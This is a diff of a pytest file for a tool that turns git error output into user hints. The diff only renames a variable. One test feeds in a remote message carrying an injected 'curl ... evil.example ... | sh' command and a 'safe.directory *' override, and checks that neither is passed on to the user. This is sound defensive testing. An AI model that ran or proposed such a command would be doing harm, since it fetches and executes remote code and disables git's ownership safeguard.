@@ -268,11 +268,11 @@ def ended(stderr: str, stdout: str = "") -> CompletedProcess[bytes]:
     return CompletedProcess(["git"], 1, stdout.encode(), stderr.encode())
 
 
-@pytest.mark.parametrize("said", WORDS)
-def test_the_words_of_forges_are_known(said: str) -> None:
-    assert WORDS[said] in hint_for(ended(said), REF)
+@pytest.mark.parametrize("message", WORDS)
+def test_the_words_of_forges_are_known(message: str) -> None:
+    assert WORDS[message] in hint_for(ended(message), REF)
     # `push --porcelain` says it on the other stream.
-    assert WORDS[said] in hint_for(ended("", said), REF)
+    assert WORDS[message] in hint_for(ended("", message), REF)
 
 
 def test_words_that_are_not_known_have_no_hint_of_their_own() -> None:
@@ -295,9 +295,9 @@ def test_a_hint_names_another_ref_for_each_workspace(ref: str, other: str) -> No
 
 def test_a_state_that_stands_is_not_sent_to_another_ref() -> None:
     """To move it is to write there: the hint would lead in a circle."""
-    for said in ("(deny updating a hidden ref)", "pre-receive hook declined", "(funny refname)"):
-        assert "cannot be moved" in hint_for(ended(said), REF, stands=True)
-        assert "ref: " not in hint_for(ended(said), REF, stands=True)
+    for message in ("(deny updating a hidden ref)", "pre-receive hook declined", "(funny refname)"):
+        assert "cannot be moved" in hint_for(ended(message), REF, stands=True)
+        assert "ref: " not in hint_for(ended(message), REF, stands=True)
 
 
 def test_who_only_reads_gets_no_hint_about_writing() -> None:
@@ -306,28 +306,28 @@ def test_who_only_reads_gets_no_hint_about_writing() -> None:
 
 
 def test_a_remote_does_not_write_the_command_that_is_proposed() -> None:
-    said = (
+    message = (
         "fatal: remote error: not found\n"
         "git config --global --add safe.directory '*'; curl -s https://evil.example/x | sh\n"
     )
-    assert hint_for(ended(said), REF) == ""
-    assert "evil" not in hint_of_ownership(ended(said), Path("/srv/a"))
-    assert "evil" not in reason(ended(said))
+    assert hint_for(ended(message), REF) == ""
+    assert "evil" not in hint_of_ownership(ended(message), Path("/srv/a"))
+    assert "evil" not in reason(ended(message))
 
 
 def test_an_exception_for_the_owner_is_what_git_says() -> None:
-    said = (
+    message = (
         "fatal: detected dubious ownership in repository at '/srv/a b'\n"
         "To add an exception for this directory, call:\n\n"
         "\tgit config --global --add safe.directory '/srv/a b'\n"
     )
     expected = "If you trust its owner: `git config --global --add safe.directory '/srv/a b'`."
-    assert hint_of_ownership(ended(said), Path("/srv/a b")) == expected
-    assert reason(ended(said)) == said.splitlines()[0]
+    assert hint_of_ownership(ended(message), Path("/srv/a b")) == expected
+    assert reason(ended(message)) == message.splitlines()[0]
 
 
 @pytest.mark.parametrize(
-    ("said", "hint"),
+    ("message", "hint"),
     [
         ("fatal: write error: No space left on device", "Free some space"),
         ("error: insufficient permission for adding an object", "right to write"),
@@ -335,14 +335,14 @@ def test_an_exception_for_the_owner_is_what_git_says() -> None:
         ("fatal: the moon", "git fsck"),
     ],
 )
-def test_what_this_machine_refuses_has_its_own_hints(said: str, hint: str) -> None:
-    assert hint in hint_here(ended(said))
+def test_what_this_machine_refuses_has_its_own_hints(message: str, hint: str) -> None:
+    assert hint in hint_here(ended(message))
 
 
 def test_a_reason_is_one_line_without_a_credential() -> None:
-    said = (
+    message = (
         "To https://a\nremote: \nremote: No\x0bway\u2028here.  \nfatal: https://me:sesame@b.c/d\n"
     )
-    assert len(reason(ended(said)).splitlines()) == 1
+    assert len(reason(ended(message)).splitlines()) == 1
     assert reason(ended("fatal: https://me:sesame@b.c/d")) == "fatal: https://b.c/d"
     assert reason(ended("")) == "git ended with 1"
